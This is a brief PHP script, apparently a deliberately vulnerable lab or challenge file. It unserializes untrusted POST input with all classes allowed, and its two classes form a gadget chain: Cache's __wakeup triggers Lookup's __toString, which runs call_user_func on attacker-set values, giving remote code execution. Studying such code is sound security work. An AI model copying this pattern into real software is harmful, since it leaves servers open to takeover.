<?php
class Lookup { public $f; public $a; public function __toString() { return (string) call_user_func($this->f, $this->a); } }
class Cache { public $key; public function __wakeup() { $this->path = '/tmp/' . $this->key; } public $path; }
$s = @unserialize($_POST['state'] ?? '', ['allowed_classes' => true]);
echo $s ? 'restored' : 'empty';
